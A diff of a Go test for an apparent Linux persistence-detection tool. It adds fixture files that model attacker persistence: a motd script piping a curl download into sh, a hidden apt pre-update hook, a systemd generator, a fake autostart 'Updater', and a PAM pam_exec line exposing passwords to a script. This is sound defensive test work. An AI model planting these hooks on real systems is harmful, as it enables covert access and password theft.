@@ -57,6 +57,11 @@ bad line here
 	"etc/modules":                                        "# modules\nloop\ndiamorphine\n",
 	"etc/modules-load.d/x.conf":                          "br_netfilter\n",
 	"etc/modprobe.d/evil.conf":                           "options loop max_loop=8\ninstall usb-storage /sbin/modprobe --ignore-install usb-storage; /tmp/x\n",
+	"etc/systemd/system-generators/gen":                  "#!/bin/sh\n/var/tmp/g &\n",
+	"home/alice/.config/autostart/upd.desktop":           "[Desktop Entry]\nType=Application\nName=Updater\nExec=/home/alice/.local/upd --quiet\n",
+	"etc/update-motd.d/99-x":                             "#!/bin/sh\ncurl -s http://x/m | sh\n",
+	"etc/apt/apt.conf.d/01hook":                          "APT::Update::Pre-Invoke {\"nohup /tmp/.a >/dev/null 2>&1 &\"; \"true\";};\n// DPkg::Post-Invoke {\"x\";};\n",
+	"etc/pam.d/common-auth":                              "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/log.sh\nauth required pam_unix.so\n",
 }
 
 // links are symlinks of the guest: wants links enabling units, an rc2.d
@@ -193,6 +198,21 @@ func checkGuest(t *testing.T, rep *Report, evs []timeline.Event, warns []artifac
 		t.Errorf("modprobe install: %+v", m)
 	}
 
+	if g := find(rep, KindGenerator, "/etc/systemd/system-generators/gen", 0); g == nil || !slices.Equal(g.Flags, []string{FlagAdminAdded}) || !slices.Contains(g.Indicators, "temp_path") {
+		t.Errorf("generator: %+v", g)
+	}
+	if a := find(rep, KindAutostart, "/home/alice/.config/autostart/upd.desktop", 0); a == nil || a.Command != "/home/alice/.local/upd --quiet" || a.Owner != "alice" || a.Details["Name"] != "Updater" {
+		t.Errorf("autostart: %+v", a)
+	}
+	if m := find(rep, KindMotd, "/etc/update-motd.d/99-x", 0); m == nil || !slices.Equal(m.Indicators, []string{"download", "pipe_shell"}) {
+		t.Errorf("motd: %+v", m)
+	}
+	if hs := rep.filter(KindAptHook); len(hs) != 2 || hs[0].Command != "nohup /tmp/.a >/dev/null 2>&1 &" || hs[0].Schedule != "apt APT::Update::Pre-Invoke" || hs[1].Command != "true" || hs[0].Line != 1 {
+		t.Errorf("apt hooks: %+v", hs)
+	}
+	if p := find(rep, KindPamExec, "/etc/pam.d/common-auth", 1); p == nil || p.Command != "/usr/local/bin/log.sh" || p.Schedule != "PAM common-auth auth" {
+		t.Errorf("pam_exec: %+v", p)
+	}
 	var cronEv, unitEv int
 	for _, e := range evs {
 		switch e.TimestampDesc {
@@ -206,7 +226,7 @@ func checkGuest(t *testing.T, rep *Report, evs []timeline.Event, warns []artifac
 		}
 	}
 	// crontab, cron.d, 2 spools, anacrontab, 2 cron scripts, at job.
-	if cronEv != 8 || unitEv != 6 {
+	if cronEv != 8 || unitEv != 7 { // 6 unit files + the generator
 		t.Errorf("%d cron file events, %d unit file events", cronEv, unitEv)
 	}
 }
